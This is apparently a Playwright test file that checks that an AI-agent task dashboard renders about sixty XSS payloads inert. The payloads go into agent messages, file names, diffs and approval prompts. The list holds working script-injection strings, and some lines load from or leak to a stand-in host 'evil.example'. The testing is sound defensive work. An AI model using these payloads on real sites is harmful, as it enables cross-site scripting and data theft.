"""Agents' words, names and files try to run in the page. None does, and the policy never has to stop one."""

from __future__ import annotations

import base64

import pytest
from playwright.sync_api import Browser, expect

from tests.support import script

from .conftest import Podium, SignIn, Watched

RUN = "alert(1)"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//evil.example/x.js></script>{RUN}",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<img/src=x/onerror={RUN}>",
    f"<img src='javascript:{RUN}'>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<a href='jAvAsCrIpT:{RUN}'>click</a>",
    f"<a href='&#106;avascript:{RUN}'>click</a>",
    f"<a href='java\tscript:{RUN}'>click</a>",
    f"[click](javascript:{RUN})",
    f"![x](x'onerror='{RUN})",
    f"[x]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"<style>@import '//evil.example/x.css'; body{{background:url(javascript:{RUN})}}</style>",
    "<style>*{background:url(//evil.example/leak)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/leak>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<img src=//evil.example/leak.png>",
    "<div style='background:url(//evil.example/leak);position:fixed;inset:0'>x</div>",
    f"<div onpointerover={RUN} style=position:fixed;inset:0>x</div>",
    f"<template><script>{RUN}</script></template>",
    f"<x onclick={RUN}>x</x>",
    f"javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"{{__html: '<img src=x onerror={RUN}>'}}",
    '{"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=alert(1)>"}}',
    '{"__proto__": {"innerHTML": "<img src=x onerror=alert(1)>"}}',
    f"\x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07",
    f"\u202e<script>{RUN}</script>\u2066",
    f"\x00<script>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"diff --git a/<img src=x onerror={RUN}> b/x\n@@ -1 +1 @@\n+<script>{RUN}</script>",
]
STRANGE = (
    "img, iframe, object, embed, video, audio, marquee, math, base, style, "
    "a[href^='javascript' i], [onerror], [onload], [onclick]"
)
"""What only a payload would put into the page."""


def test_sixty_payloads_in_every_place_that_agents_can_write_to_run_nothing_and_fetch_nothing(
    sign_in: SignIn, podium: Podium
) -> None:
    assert len(PAYLOADS) >= 50
    project = podium.fleet.call("POST", "/projects", {"name": "hostile", "max_running": 1})
    hold = podium.open(script({"do": "hang"}), "Holds the place", project=project["id"])
    for payload in PAYLOADS:
        podium.open(script({"do": "say", "text": payload}), payload, project=project["id"])
    everything = "\n".join(PAYLOADS)
    encoded = base64.b64encode(everything.encode()).decode()
    echo = f"import base64, sys; sys.stdout.buffer.write(base64.b64decode('{encoded}'))"
    names = [
        name
        for payload in PAYLOADS
        if (name := payload.replace("/", "\u2215").replace("\x00", "")[:80].strip()) not in {"", "."}
    ]
    steps = [{"do": "say", "text": payload} for payload in PAYLOADS]
    steps += [{"do": "think", "text": everything}, {"do": "run", "argv": ["python3", "-c", echo]}]
    steps += [{"do": "edit", "path": name, "write": everything.replace("\x00", "")} for name in names]
    steps += [{"do": "ask", "command": everything.replace("\x00", ""), "why": everything}]
    task = podium.open(script(*steps), PAYLOADS[0] + PAYLOADS[9], with_repository=True)

    page = sign_in(f"/?project={project['id']}")
    shown = page.get_by_role("link").filter(has_text="alert(1)")
    expect(shown.first).to_be_visible()
    assert page.locator(STRANGE).count() == 0
    page.get_by_role("region", name="List of tasks").evaluate("element => element.scrollTo(0, 1e9)")
    expect(shown.get_by_text(PAYLOADS[1], exact=True)).to_be_visible()
    assert page.locator(STRANGE).count() == 0

    page.goto(f"{podium.url}/tasks/{task}")
    card = page.get_by_role("region", name="The agent asks")
    expect(card).to_contain_text("<script>alert(1)</script>")
    expect(card).to_contain_text("\\u202e<script>")
    log = page.get_by_test_id("transcript")
    for _ in range(30):
        log.evaluate("element => element.querySelectorAll('[aria-expanded=false]').forEach(b => b.click())")
        log.evaluate("element => element.scrollBy(0, -2000)")
        assert page.locator(STRANGE).count() == 0
    page.get_by_role("link", name="Changes").click()
    expect(page.locator(".diff-line").first).to_be_visible()
    for button in page.get_by_role("region", name="Changes").get_by_role("listitem").all():
        button.get_by_role("button").click()
    assert page.locator(STRANGE).count() == 0

    card.get_by_role("button", name="Deny").click()
    expect(page.get_by_test_id("status")).to_contain_text("review")
    expect(page.locator(".diff-line").first).to_be_visible()
    page.mouse.move(300, 300)
    page.mouse.click(640, 500)
    assert page.locator(STRANGE).count() == 0
    assert page.evaluate("location.origin") == podium.url
    podium.fleet.call("POST", f"/tasks/{hold}/cancel", {})


def test_what_watches_over_these_tests_would_see_it(chromium: Browser, podium: Podium) -> None:
    context = chromium.new_context()
    watched = Watched(context)
    page = context.new_page()
    page.goto(podium.url)
    page.evaluate("""() => {
        const html = "<img src=x onerror='alert(1)'><p style='color:red'>x</p>";
        document.body.insertAdjacentHTML('beforeend', html);
        document.body.append(Object.assign(document.createElement('script'), {textContent: 'alert(2)'}));
        alert('by our own hand');
    }""")
    with pytest.raises(AssertionError):
        watched.check(context)
    ran, stopped = page.evaluate("[window.__ran, window.__violations.map((one) => one.split(' ')[0])]")
    assert ran == ["by our own hand"]
    assert {"script-src-elem", "style-src-attr"} <= set(stopped)
    context.close()
